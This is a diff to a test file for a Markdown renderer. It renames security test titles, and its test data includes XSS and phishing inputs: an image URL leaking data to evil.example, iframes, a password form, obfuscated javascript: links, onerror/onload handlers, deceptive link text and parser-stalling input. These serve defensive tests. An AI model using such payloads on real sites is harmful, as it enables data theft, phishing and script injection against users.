@@ -10,7 +10,7 @@ const markup = (text: string) => renderToStaticMarkup(createElement(Markdown, { 
 beforeAll(() => void vi.stubGlobal('window', { location: { origin } }));
 afterAll(() => void vi.unstubAllGlobals());
 
-test('no picture of another site is ever fetched: it is a link that names its site', () => {
+test('an image from another site is never loaded: it is a link that names the site', () => {
   for (const text of [
     '![chart](https://evil.example/p.png?d=secret)',
     '![](https://evil.example/p.png)',
@@ -25,7 +25,7 @@ test('no picture of another site is ever fetched: it is a link that names its si
   expect(markup('![chart](https://evil.example/p.png?d=secret)')).toContain('chart (evil.example)');
 });
 
-test('nothing that runs, embeds or asks is made of a text', () => {
+test('text never becomes scripts, embedded content or forms', () => {
   for (const text of [
     '<iframe src="https://evil.example"></iframe>',
     '<form action="https://evil.example"><input name="password"></form>',
@@ -42,7 +42,7 @@ test('nothing that runs, embeds or asks is made of a text', () => {
   }
 });
 
-test('a link leads somewhere or is none', () => {
+test('a link without an allowed scheme is shown as text', () => {
   for (const text of [
     '[x](javascript:alert(1))',
     '[x](JaVaScRiPt:alert(1))',
@@ -62,7 +62,7 @@ test('a link leads somewhere or is none', () => {
   expect(isLink('javascript:alert(1)', origin)).toBe(false);
 });
 
-test('words that name another site are followed by the true one', () => {
+test('a link text that names another site is followed by the real one', () => {
   expect(markup('[https://bank.example/login](https://evil.example/x)')).toContain(
     'https://bank.example/login (evil.example)',
   );
@@ -77,7 +77,7 @@ test('words that name another site are followed by the true one', () => {
   expect(trueHost('https://bank.example/a', 'https://bank.example/a.')).toBeNull();
 });
 
-test('what is spelled by references, cases and blanks leads nowhere either', () => {
+test('a scheme disguised by character references, case or spaces is no link either', () => {
   for (const text of [
     '[x](java&#115;cript:alert(1))',
     '[x](&#x6a;avascript&colon;alert(1))',
@@ -94,7 +94,7 @@ test('what is spelled by references, cases and blanks leads nowhere either', () 
   }
 });
 
-test('HTML is words wherever it stands, and never an attribute', () => {
+test('HTML is shown as text everywhere and never becomes an attribute', () => {
   for (const text of [
     '# <img src=x onerror=alert(1)>',
     '- <svg onload=alert(1)>',
@@ -114,7 +114,7 @@ test('HTML is words wherever it stands, and never an attribute', () => {
   }
 });
 
-test('there is no link within a link: words cannot cover where a press leads', () => {
+test('a link never contains another link that would hide its target', () => {
   for (const text of [
     '[bank [here](https://a.example)](https://b.example)',
     '[**bold [x](https://a.example)**](https://b.example)',
@@ -126,7 +126,7 @@ test('there is no link within a link: words cannot cover where a press leads', (
   }
 });
 
-test('a text made of nothing but signs is shown, and holds up nobody', () => {
+test('a text made only of Markdown signs is shown and does not block the page', () => {
   for (const sign of ['>', '- ', '1. ', '*a ', '_a ', '~~a ', '**a *b ', '[', '![', '`a ']) {
     const text = sign.repeat(40_000 / sign.length);
     expect(markup(`${text}x`), sign).toContain('x</p>');
